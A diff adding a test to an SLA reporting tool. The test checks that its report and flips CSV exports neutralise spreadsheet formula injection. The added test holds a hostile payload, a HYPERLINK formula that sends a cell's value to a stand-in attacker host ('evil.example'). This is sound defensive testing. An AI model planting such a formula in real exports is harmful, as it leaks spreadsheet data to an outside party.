@@ -510,3 +510,32 @@ def test_a_hostile_policy_file_is_refused_in_one_line_and_changes_nothing(case, 
     assert_one_line_error(result, needle, prefix="" if command == "policy validate" else "error: ")
     assert "sla.yaml" in result.stderr
     assert db.read_bytes() == raw_before and _snapshot(db) == before
+
+
+# ---- the CSVs the command line writes -----------------------------------------------------------------------
+
+def test_the_report_csv_and_the_flips_csv_hold_no_formula_cell(db, tmp_path):
+    from sla_core.safe_csv import formula_cells
+
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    export = tmp_path / "export.csv"
+    rows = [f'H{n},2026-03-0{1 + n % 5} 09:00:00,2026-03-0{1 + n % 5} 1{n % 10}:00:00,Mail,"{hostile.replace(chr(34), 2 * chr(34))}",'
+            f"High,Solved,{n}" for n in range(30)]
+    export.write_text("\n".join([HEADER, *rows]) + "\n")
+    loaded = sla("ingest", str(export), "--format", "zendesk", "--db", str(db), "--config", str(CONFIG), "--json")
+    assert loaded.exit_code == 0 and json.loads(loaded.stdout)["rows_loaded"] == 30, loaded.output
+    assert query(db, "SELECT count(*) FROM results WHERE team = ?", [hostile])[0][0] > 0
+
+    report = sla("report", "--month", "2026-03", "--db", str(db), "--out", str(tmp_path / "report.html"))
+    assert report.exit_code == 0, report.output
+    report_csv = (tmp_path / "report.csv").read_text()
+    assert "'=HYPERLINK" in report_csv and formula_cells(report_csv) == []
+
+    proposed = tmp_path / "proposed.yaml"
+    proposed.write_text((CONFIG / "sla.yaml").read_text().replace("priority: high}, within: 4h", "priority: high}, within: 1m"))
+    flips = tmp_path / "flips.csv"
+    simulated = sla("simulate", "--proposed", str(proposed), "--db", str(db), "--config", str(CONFIG),
+                    "--by", "team", "--flips-csv", str(flips))
+    assert simulated.exit_code == 0, simulated.output
+    flips_csv = flips.read_text()
+    assert "'=HYPERLINK" in flips_csv and formula_cells(flips_csv) == []
